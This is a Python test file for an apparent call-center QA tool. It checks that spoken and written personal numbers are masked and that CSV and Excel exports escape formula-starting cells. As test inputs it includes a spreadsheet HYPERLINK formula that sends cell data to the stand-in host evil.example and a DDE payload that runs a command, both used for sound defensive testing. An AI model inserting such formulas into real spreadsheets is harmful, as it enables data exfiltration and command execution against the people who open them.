"""Personal numbers in every form a customer reads them out, masked in text and in the stored tables; and
every CSV and Excel export safe to open (no cell runs as a formula)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import polars as pl
import pytest
from click.testing import CliRunner
from reportdata import build_output

from callqa.cli import main
from callqa.masking import mask_numbers, number_spans
from reports.exports import csv_text, neutralise
from reports.queue import queue_frame, write_queue_csv, write_queue_xlsx
from reports.tables import Tables
from results.store import ResultStore, scan_table
from workspace.audit import Actor
from workspace.decisions import Review, ReviewStore

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'


@pytest.mark.parametrize(("text", "masked"), [
    ("尾号3、2、1、5", "尾号****"),
    ("尾号三,二,一,五", "尾号****"),
    ("手机138,1234,5678", "手机***********"),
    ("卡号壹贰叁肆伍陆柒捌", "卡号********"),
    ("一三八啊一二三四啊五六七八", "***********"),
    ("一三八，呃，一二三四，那个五六七八", "***********"),
    ("电话是 138 1234 5678 对", "电话是 *********** 对"),
    ("身份证110101199003077718", "身份证******************"),
    ("证件号11010119900307771X", "证件号******************"),
    ("工号三七二一", "工号****"),
    ("保费六千元，十五年交，一两个月", "保费六千元，十五年交，一两个月"),  # amounts and durations stay
    ("第三期，第二年", "第三期，第二年"),
    ("最快片段153.3字/分钟，1:23.7处", "最快片段153.3字/分钟，1:23.7处"),  # decimals and clock times
])
def test_masking_covers_how_numbers_are_read_out(text: str, masked: str) -> None:
    assert mask_numbers(text) == masked
    assert len(number_spans(text)) == (text != masked)


def test_the_findings_table_stores_evidence_masked(tmp_path: Path) -> None:
    out = build_output(tmp_path / "out")
    store = ResultStore(out)
    result = json.loads(store.result_path("mono_issues").read_text(encoding="utf-8"))
    result["findings"][0]["evidence"] = "客户说身份证后四位三、二、一、五，手机一三八啊一二三四五六七八"
    result["findings"][0]["message"] = "坐席复述了卡号壹贰叁肆伍陆"
    result["scoring"]["run_id"] = "20261122T000009-pii"
    store.save_result("mono_issues", result)
    store.sync_tables("20261122T000009-pii")
    rows = scan_table(out, "findings").filter(pl.col("run_id") == "20261122T000009-pii").collect()
    first = rows.row(0, named=True)
    assert first["evidence"] == "客户说身份证后四位****，手机***********" and first["message"] == "坐席复述了卡号******"
    for part in (out / "tables").glob("run-*/*.parquet"):
        assert part.stat().st_mode & 0o077 == 0  # owner-only
        assert b"\xe4\xb8\x89\xe3\x80\x81\xe4\xba\x8c" not in part.read_bytes()  # "三、二" is not in the file


def test_neutralise_formula_starts() -> None:
    for risky in ("=1+1", "+1+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1+1", FORMULA):
        assert neutralise(risky) == "'" + risky
    for safe in ("合格", "1.5", "A017", "", "a=b", "+86", "-3"):  # a plain number cannot run anything
        assert neutralise(safe) == safe
    assert neutralise(-3) == -3 and neutralise(None) is None
    rows = list(csv.reader(io.StringIO(csv_text(["a", "b"], [{"a": FORMULA, "b": 3}]))))
    assert rows[1] == ["'" + FORMULA, "3"]


@pytest.fixture()
def hostile_out(tmp_path: Path) -> Path:
    """An output folder whose manifest gave a call a team and agent that are formulas."""
    out = build_output(tmp_path / "out")
    store = ResultStore(out)
    result = json.loads(store.result_path("mono_clean").read_text(encoding="utf-8"))
    result.update(team=FORMULA, agent_id="@cmd|' /C calc'!A0")
    result["scoring"]["run_id"] = "20261122T000009-hostile"
    store.save_result("mono_clean", result)
    store.sync_tables("20261122T000009-hostile")
    return out


def test_queue_exports_neutralise_formulas(hostile_out: Path, tmp_path: Path) -> None:
    frame = queue_frame(Tables(hostile_out))
    with write_queue_csv(frame, tmp_path / "q.csv").open(encoding="utf-8-sig") as fh:
        row = next(r for r in csv.DictReader(fh) if r["通话"] == "mono_clean")
    assert row["班组"] == "'" + FORMULA and row["坐席"].startswith("'@")
    book = zipfile.ZipFile(write_queue_xlsx(frame, tmp_path / "q.xlsx"))
    assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode("utf-8")  # no cell is a formula
    assert "<t>'=HYPERLINK" in book.read("xl/sharedStrings.xml").decode("utf-8")
    result = CliRunner().invoke(main, ["queue", "--results", str(hostile_out), "--csv", str(tmp_path / "cli.csv")])
    assert result.exit_code == 0, result.output
    assert "'" + FORMULA in (tmp_path / "cli.csv").read_text(encoding="utf-8-sig").replace('""', '"')


def test_the_scorecard_csv_neutralises_team_names(hostile_out: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["scorecard", "--results", str(hostile_out), "--week", "2026-W47",
                                       "--dest", str(tmp_path / "sc"), "--format", "csv,xlsx"])
    assert result.exit_code == 0, result.output
    text = (tmp_path / "sc" / "csv" / "teams.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    book = zipfile.ZipFile(tmp_path / "sc" / "scorecard-2026-W47.xlsx")
    assert all("<f>" not in book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/"))


def test_the_decisions_export_masks_comments_and_neutralises_formulas(tmp_path: Path) -> None:
    out = build_output(tmp_path / "out")
    store = ReviewStore(out / "workspace.sqlite3")
    store.add(Review("mono_issues", "0:identity.weak:1", "identity.weak", "confirmed",
                     comment="客户手机13812345678已核实", reviewer="甲"), Actor("甲", "analyst", ""))
    store.add(Review("mono_issues", "1:courtesy.thanks:2", "courtesy.thanks", "false_positive", comment=FORMULA,
                     reviewer="乙"))
    target = tmp_path / "decisions.csv"
    result = CliRunner().invoke(main, ["reviews", "--results", str(out), "--csv", str(target)])
    assert result.exit_code == 0, result.output
    with target.open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["comment"] for r in rows] == ["客户手机***********已核实", "'" + FORMULA]
    stored = b"".join(p.read_bytes() for p in out.glob("workspace.sqlite3*"))  # the database and its WAL
    assert "客户手机***********已核实".encode() in stored and b"13812345678" not in stored
